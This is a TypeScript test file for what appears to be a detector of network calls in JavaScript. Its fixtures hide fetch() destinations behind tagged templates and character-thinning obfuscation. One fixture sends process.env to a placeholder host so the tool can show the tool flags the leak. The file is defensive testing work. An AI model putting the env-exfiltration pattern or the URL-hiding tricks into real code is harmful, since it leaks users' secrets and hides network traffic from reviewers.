import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines } from '../../../../test/behave.ts';

const asked = (code: string): string[] =>
  behaviourOf({ 'index.js': code }).effects.flatMap(({ kind, target }) => (kind === 'connects' ? [target] : []));

describe('a tag of a template is given its texts and its values', () => {
  for (const [what, made] of [
    ['woven by the language', 'String.raw(texts, ...values)'],
    ['woven by the language, as an object', 'String.raw({ raw: texts }, ...values)'],
    ['joined', `texts.map((text, at) => text + (at < values.length ? values[at] : '')).join('')`],
  ] as const)
    it(`${what}: what they say`, () =>
      assert.deepEqual(asked(`const ask = (texts, ...values) => fetch(${made}); ask\`https://\${'a'}.invalid/\${'b'}\`;`), [
        'https://a.invalid/b',
      ]));

  it('the language itself: what the whole says', () =>
    assert.deepEqual(asked('const host = `a`; fetch(String.raw`https://${host}.invalid/`);'), ['https://a.invalid/']));

  it('the language itself: backslashes as they stand', () =>
    assert.deepEqual(asked('const part = `inert`; fetch(String.raw`https://a.invalid/x\\n/${part}\\d`);'), [
      'https://a.invalid/x\\n/inert\\d',
    ]));

  for (const [what, code] of [
    [
      'takes it apart',
      'const thin = ([text]) => [...text].filter((_, at) => at % 2 === 0).join(``); fetch(thin`hxtxtxpxsx:x/x/xaxbxcxdx.xixnxvxaxlxixd`);',
    ],
    [
      'asks another tag first',
      'const raw = (texts, ...values) => texts.reduce((all, text, at) => all + values[at - 1] + text); const thin = (texts, ...values) => [...raw(texts, ...values)].filter((_, at) => at % 2 === 0).join(``); fetch(thin`hxtxtxpxsx:x/x/xaxbxcxdx.xixnxvxaxlxixd`);',
    ],
  ] as const)
    it(`and ${what}: what comes out`, () => assert.deepEqual(asked(code), ['https://abcd.invalid']));

  it('and one of these is not known: the template with a hole', () => {
    const tag = 'const raw = (texts, ...values) => texts.reduce((all, text, at) => all + values[at - 1] + text);';
    assert.match(
      asked(`${tag} exports.ask = name => fetch(raw\`https://a.invalid/\${'b'}/\${name}\`);`).join(),
      /^https:\/\/a\.invalid\/b\/\*/,
    );
  });

  it('what comes out of a list by the number of each text comes from all of it', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `const ask = (texts, ...values) => fetch(texts.map((text, at) => text + (at < values.length ? encodeURIComponent(values[at]) : '')).join('')); let all = ''; try { all = process.env; } catch {} ask\`https://a.invalid/\${'b'}?\${all}\`;`,
      }),
      ['process.env → fetch as target'],
    ));
});

it('a rest parameter is a list, however often a function of letters asks for one of it', () =>
  assert.deepEqual(
    asked(
      `const ask = (at, ...hosts) => fetch(['https://'].map((text, n) => text + hosts[n]).join('')); ask(1, 'a.invalid', 'b.invalid');`,
    ),
    ['https://a.invalid'],
  ));
